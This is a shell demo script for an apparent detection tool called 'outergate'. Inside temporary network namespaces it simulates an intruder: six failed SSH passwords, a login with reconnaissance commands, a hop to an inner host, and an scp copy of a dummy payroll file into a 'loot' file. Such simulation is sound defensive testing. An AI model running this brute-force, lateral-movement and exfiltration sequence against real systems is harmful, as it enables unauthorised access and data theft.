#!/bin/bash
# Plays one intruder against a real sshd, all inside network namespaces that it makes and removes:
# six wrong passwords, a login, a command, a copied file, and on to an inside host. Run it as root
# beside a running agent (`make run` in another terminal) and watch.
set -eu
[ "$(id -u)" = 0 ] || { echo "demo: run it as root" >&2; exit 3; }
PATH=$PATH:/usr/sbin:/sbin
sh "$(dirname "$0")/../../tools/deps.sh" demo
id=og$$
srv=$id-srv ext=$id-ext in=$id-in user=ogdemo$$ password=Corr3ct-$$
dir=$(mktemp -d /tmp/outergate-demo.XXXXXX)
chmod 755 "$dir"
pids=""

cleanup() {
	# shellcheck disable=SC2086
	[ -z "$pids" ] || kill $pids 2>/dev/null || true
	for n in $srv $ext $in; do ip netns del "$n" 2>/dev/null || true; done
	userdel -r "$user" 2>/dev/null || true
	rm -rf "$dir"
}
trap cleanup EXIT

for n in $srv $ext $in; do
	ip netns add "$n"
	ip -n "$n" link set lo up
done
link() { # namespace address namespace address device
	ip -n "$1" link add "$5" type veth peer name "$5" netns "$3"
	ip -n "$1" addr add "$2/24" dev "$5"
	ip -n "$3" addr add "$4/24" dev "$5"
	ip -n "$1" link set "$5" up
	ip -n "$3" link set "$5" up
}
link "$srv" 203.0.113.1 "$ext" 203.0.113.10 out0
link "$srv" 10.20.0.1 "$in" 10.20.0.2 in0

useradd -m -s /bin/bash "$user"
echo "$user:$password" | chpasswd
ssh-keygen -q -t ed25519 -N "" -f "$dir/host"
ssh-keygen -q -t ed25519 -N "" -f "$dir/key"
install -d -o "$user" -m 700 "/home/$user/.ssh"
install -o "$user" -m 600 "$dir/key.pub" "/home/$user/.ssh/authorized_keys"
install -o "$user" -m 600 "$dir/key" "/home/$user/.ssh/id_ed25519"
head -c 3000000 /dev/urandom >"/home/$user/payroll.db"
mkdir -p /run/sshd
for n in $srv $in; do
	printf '%s\n' "Port 22" "HostKey $dir/host" "PidFile $dir/$n.pid" "UsePAM yes" \
		"PasswordAuthentication yes" "KbdInteractiveAuthentication no" \
		"Subsystem sftp /usr/lib/openssh/sftp-server" >"$dir/$n.conf"
	ip netns exec "$n" /usr/sbin/sshd -f "$dir/$n.conf"
	for _ in $(seq 50); do [ -s "$dir/$n.pid" ] && break; sleep 0.1; done
	pids="$pids $(cat "$dir/$n.pid")"
done

quiet="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
client="ip netns exec $ext sshpass -p"
echo "demo: six wrong passwords for $user from 203.0.113.10"
for i in 1 2 3 4 5 6; do
	$client "wrong$i" ssh $quiet -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no \
		"$user@203.0.113.1" true 2>/dev/null || true
done
echo "demo: the right one, a command, and on to 10.20.0.2"
$client "$password" ssh $quiet -o PubkeyAuthentication=no "$user@203.0.113.1" \
	"id; uname -a; ssh $quiet 10.20.0.2 hostname"
echo "demo: payroll.db is copied out"
$client "$password" scp -q $quiet -o PubkeyAuthentication=no "$user@203.0.113.1:payroll.db" "$dir/loot"
sleep 2
echo "demo: done; now: outergate alerts, outergate sessions, outergate explain ID"
